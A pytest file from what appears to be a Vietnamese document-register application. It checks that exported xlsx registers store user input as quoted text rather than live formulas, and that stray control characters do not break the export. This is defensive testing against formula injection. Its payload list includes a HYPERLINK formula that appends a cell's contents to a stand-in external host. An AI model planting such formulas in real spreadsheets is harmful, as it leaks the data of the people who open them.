"""What users typed reaches the register spreadsheets as text: never a formula, never an
export that fails on a character stored before input was cleaned."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from tests.support.documents import DocWorld, register
from tests.support.registers import TODAY, YEAR_2012
from vanphong.documents import register_files
from vanphong.documents.models import IncomingDocument
from vanphong.documents.registers import Kind

FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "=1+1", "+1", "-2", "@SUM(A1)")


def _cells(world: DocWorld, kind: Kind = Kind.INCOMING) -> list[Any]:
    content = register_files.build(
        world.chau_thanh_clerk,
        kind,
        unit=world.chau_thanh_office,
        period=YEAR_2012,
        file_format="xlsx",
        today=TODAY,
    ).content
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=3) for cell in row]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_subject_that_looks_like_a_formula_is_written_as_text(
    world: DocWorld, typed: str
) -> None:
    register(world, subject=typed, sender_name=typed)
    found = [cell for cell in _cells(world) if isinstance(cell.value, str) and typed in cell.value]
    assert found, "the subject and the sender are in the register"
    for cell in found:
        assert cell.data_type == "s"
        assert cell.quotePrefix, "Excel keeps it text when the cell is edited"
    sender = [cell for cell in found if cell.value == typed]
    assert sender, "the text is written exactly as typed, without an apostrophe"


def test_no_cell_of_any_register_is_a_formula(world: DocWorld) -> None:
    register(world, subject="=1+1", note="=2+2", recipients_note="@A1")
    for kind in Kind:
        assert all(cell.data_type != "f" for cell in _cells(world, kind)), kind


def test_a_control_character_stored_in_a_subject_does_not_break_the_xlsx(
    world: DocWorld,
) -> None:
    document = register(world)
    # As rows stored before input was cleaned may hold it.
    IncomingDocument.objects.filter(pk=document.pk).update(
        subject="Về việc\x01 bầu cử\x08\x1b", sender_name="Tỉnh ủy\x0c"
    )
    values = [cell.value for cell in _cells(world)]
    assert "Tỉnh ủy" in values
    assert any(isinstance(v, str) and "việc bầu cử" in v for v in values)
